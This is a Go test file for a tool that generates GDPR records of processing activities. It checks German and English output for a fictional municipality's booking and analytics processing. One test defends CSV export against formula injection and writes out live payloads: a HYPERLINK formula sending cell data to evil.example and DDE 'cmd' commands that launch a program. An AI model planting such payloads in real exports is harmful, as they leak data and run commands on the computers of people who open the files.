package notice

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/frist-go/frist/policy"
)

// ropaDeclaration is a small declaration for the record's tests: a booking
// with a joint controller, a web log without retention rules and an
// analytics cookie with a lifetime.
func ropaDeclaration(t *testing.T) *policy.Declaration {
	t.Helper()
	d := &policy.Declaration{
		Controller: policy.Controller{Name: "Stadt Beispiel", Representative: policy.Text{DE: "Bürgermeisterin Erika Muster", EN: "Mayor Erika Muster"},
			Address: "Rathausplatz 1, 12345 Beispiel", Contact: policy.Contact{Email: "info@beispiel.de"}, TimeZone: "Europe/Berlin", PublicAuthority: true},
		DPO: policy.DPO{Address: "Rathausplatz 1, 12345 Beispiel", Contact: policy.Contact{Email: "datenschutz@beispiel.de"}},
		Recipients: []policy.Recipient{
			{ID: "kreis", Name: policy.Text{DE: "Kreis Beispiel"}, Address: "Kreishaus, 12340 Beispiel", Role: policy.RoleJointController, Country: "DE"},
			{ID: "host", Name: policy.Text{DE: "Hosting GmbH"}, Role: policy.RoleProcessor, Country: "DE"},
			{ID: "us", Name: policy.Text{DE: "Mail Inc."}, Role: policy.RoleProcessor, Country: "US", Safeguard: policy.Text{DE: "Standardvertragsklauseln (Art. 46 Abs. 2 lit. c DSGVO)"}},
		},
		Purposes: []policy.Purpose{
			{ID: "booking", Description: policy.Text{DE: "Terminbuchung", EN: "Booking"},
				LegalBasis: []policy.LegalBasis{{Basis: policy.PublicTask, National: []string{"§ 3 DSG NRW"}}}, Recipients: []string{"kreis", "us"}},
			{ID: "analytics", Description: policy.Text{DE: "Reichweitenmessung", EN: "Audience measurement"},
				LegalBasis: []policy.LegalBasis{{Basis: policy.Consent}},
				Consent:    &policy.ConsentSpec{Version: "1", Withdraw: []policy.Channel{{Kind: policy.ChannelLink, Address: "https://beispiel.de/widerruf"}}}},
		},
		Datasets: []policy.Dataset{
			{ID: "appointment", Description: policy.Text{DE: "Termindaten", EN: "Appointment data"}, Table: "appointments", Key: "id", Subject: "citizen_id",
				Time: []policy.TimeColumn{{Name: "appointment_at", Description: policy.Text{DE: "dem Termin", EN: "the appointment"}}}, Purposes: []string{"booking"}, Recipients: []string{"host"},
				Subjects: policy.Text{DE: "Bürgerinnen und Bürger, die einen Termin buchen", EN: "citizens who book an appointment"},
				Fields: []policy.Field{
					{Name: "name", Category: policy.CatIdentity, Description: policy.Text{DE: "Name", EN: "name"}},
					{Name: "email", Category: policy.CatContact, Description: policy.Text{DE: "E-Mail-Adresse", EN: "e-mail address"}},
					{Name: "phone", Category: policy.CatContact, Description: policy.Text{DE: "Rufnummer", EN: "phone number"}},
					{Name: "service", Category: policy.CatNone, Description: policy.Text{DE: "Dienstleistung", EN: "service"}},
				},
				Rules: []policy.Rule{{After: policy.MustParsePeriod("14d"), From: "appointment_at", Delete: true}}},
			{ID: "error_log", Description: policy.Text{DE: "Fehlerprotokolle", EN: "Error logs"}, Table: "errors", Key: "id",
				Time: []policy.TimeColumn{{Name: "logged_at"}}, Purposes: []string{"booking"},
				Fields: []policy.Field{{Name: "ip", Category: policy.CatOnlineIdentifier, Description: policy.Text{DE: "IP-Adresse", EN: "IP address"}}}},
		},
		Cookies: []policy.Cookie{
			{Name: "_pk_id", Purpose: "analytics", Lifetime: policy.MustParsePeriod("13mo"), Basis: policy.ConsentBased},
			{Name: "_pk_ses", Purpose: "analytics", Session: true, Basis: policy.ConsentBased},
		},
		Measures: policy.Text{DE: "TLS, rollenbasierte Zugriffsrechte", EN: "TLS, role-based access"},
	}
	require.NoError(t, d.Validate())
	return d
}

// TestRecordFollowsTheDSKModel pins the items of each activity. Tried
// against broken records: one that lists a joint controller as a recipient
// fails the joint-controller assertions, one that states only the periods
// of datasets with rules fails on the error log.
func TestRecordFollowsTheDSKModel(t *testing.T) {
	d := ropaDeclaration(t)
	acts, err := Record(d, German)
	require.NoError(t, err)
	require.Len(t, acts, 2)
	b := acts[0]
	assert.Equal(t, "booking", b.ID)
	assert.Equal(t, "Stadt Beispiel, vertreten durch Bürgermeisterin Erika Muster, Rathausplatz 1, 12345 Beispiel, E-Mail: info@beispiel.de", b.Controller)
	assert.Equal(t, "Kreis Beispiel, Kreishaus, 12340 Beispiel", b.JointControllers)
	assert.NotContains(t, b.Recipients, "Kreis Beispiel", "a joint controller is no recipient")
	assert.Contains(t, b.Recipients, "Hosting GmbH (Auftragsverarbeiter (Art. 28 DSGVO))")
	assert.Equal(t, "Mail Inc. (US): Standardvertragsklauseln (Art. 46 Abs. 2 lit. c DSGVO)", b.Transfers)
	assert.Equal(t, "Bürgerinnen und Bürger, die einen Termin buchen", b.Subjects)
	assert.Equal(t, "Identitätsdaten (Name); Kontaktdaten (E-Mail-Adresse, Rufnummer); Online-Kennungen (IP-Adresse)", b.Data,
		"fields by category; the service booked is not personal on its own")
	assert.Contains(t, b.Erasure, "Termindaten werden 14 Tage nach dem Termin gelöscht.")
	assert.Contains(t, b.Erasure, "Fehlerprotokolle: keine Löschfrist festgelegt.", "a dataset without rules is never left out")
	assert.Equal(t, "TLS, rollenbasierte Zugriffsrechte", b.Measures)

	a := acts[1]
	assert.Equal(t, "keine", a.JointControllers)
	assert.True(t, strings.HasPrefix(a.Erasure, "Cookie „_pk_id“: 13 Monate nach dem Setzen. Cookie „_pk_ses“: bis zum Ende der Browsersitzung. Nachweise über Einwilligungen"), a.Erasure)
	assert.Empty(t, a.Subjects, "no dataset, no declared subjects: empty, and FR060 stops publication")

	d.Measures = policy.Text{}
	d.Datasets[0].Subjects = policy.Text{}
	acts, err = Record(d, German)
	require.NoError(t, err)
	assert.Empty(t, acts[0].Measures)
	assert.Empty(t, acts[0].Subjects)
	var buf bytes.Buffer
	require.NoError(t, RecordMarkdown(&buf, d, German))
	assert.NotContains(t, buf.String(), "nicht angegeben")

	// A period the source does not state is recorded as enforced, marked as
	// an assumption; a representative assumed is left out.
	d = ropaDeclaration(t)
	d.Assumptions = []policy.Annotation{{Path: "datasets[0].rules[0]", Note: "not in the notice"}, {Path: "controller.representative", Note: "not in the notice"},
		{Path: "cookies[0]", Note: "Matomo's default"}}
	require.NoError(t, d.Validate())
	acts, err = Record(d, German)
	require.NoError(t, err)
	assert.Contains(t, acts[0].Erasure, "Termindaten werden 14 Tage nach dem Termin gelöscht. (Annahme, von der Quelle nicht belegt)")
	assert.NotContains(t, acts[0].Controller, "Erika Muster")
	assert.Contains(t, acts[1].Erasure, "Cookie „_pk_id“: 13 Monate nach dem Setzen. (Annahme, von der Quelle nicht belegt) Cookie „_pk_ses“: bis zum Ende der Browsersitzung.")

	en, err := Record(ropaDeclaration(t), English)
	require.NoError(t, err)
	assert.True(t, strings.HasPrefix(en[1].Erasure, "Cookie “_pk_id”: 13 months after it is set. Cookie “_pk_ses”: until the end of the browser session. Proof of consent"), en[1].Erasure)
	assert.Contains(t, en[0].Erasure, "Error logs: no erasure time limit set.")
}

// TestRecordCSVIsSafeAgainstFormulaInjection writes declared texts that a
// spreadsheet would run as formulas and checks that every cell reads as
// text. With csvSafe returning its input (tried), every case fails.
func TestRecordCSVIsSafeAgainstFormulaInjection(t *testing.T) {
	for _, evil := range []string{
		`=HYPERLINK("https://evil.example/?d="&A1,"Termin")`,
		"+1+cmd|' /C calc'!A0",
		"-2+3+cmd|' /C calc'!A0",
		"@SUM(1+1)*cmd|' /C calc'!A0",
		"\t=1+1",
		"\r=1+1",
	} {
		t.Run(strings.TrimSpace(evil[:4]), func(t *testing.T) {
			d := ropaDeclaration(t)
			d.Purposes[0].Description = policy.Text{DE: evil}
			d.Controller.Name = evil
			d.Measures = policy.Text{DE: evil}
			var buf bytes.Buffer
			require.NoError(t, RecordCSV(&buf, d, German))
			rows, err := csv.NewReader(&buf).ReadAll()
			require.NoError(t, err)
			require.Len(t, rows, 3)
			for _, row := range rows {
				for _, cell := range row {
					if cell != "" {
						assert.NotContains(t, "=+-@\t\r", cell[:1], "cell %q starts a formula", cell)
					}
				}
			}
			assert.Equal(t, "'"+evil, rows[1][4], "the purpose is kept, behind an apostrophe")
			assert.Equal(t, "'"+evil, rows[1][11])
			assert.True(t, strings.HasPrefix(rows[1][1], "'"+evil))
		})
	}
	for in, want := range map[string]string{"": "", "Stadt": "Stadt", "'=x": "'=x", "a=b": "a=b", "=": "'=", "-": "'-"} {
		assert.Equal(t, want, csvSafe(in), in)
	}
}
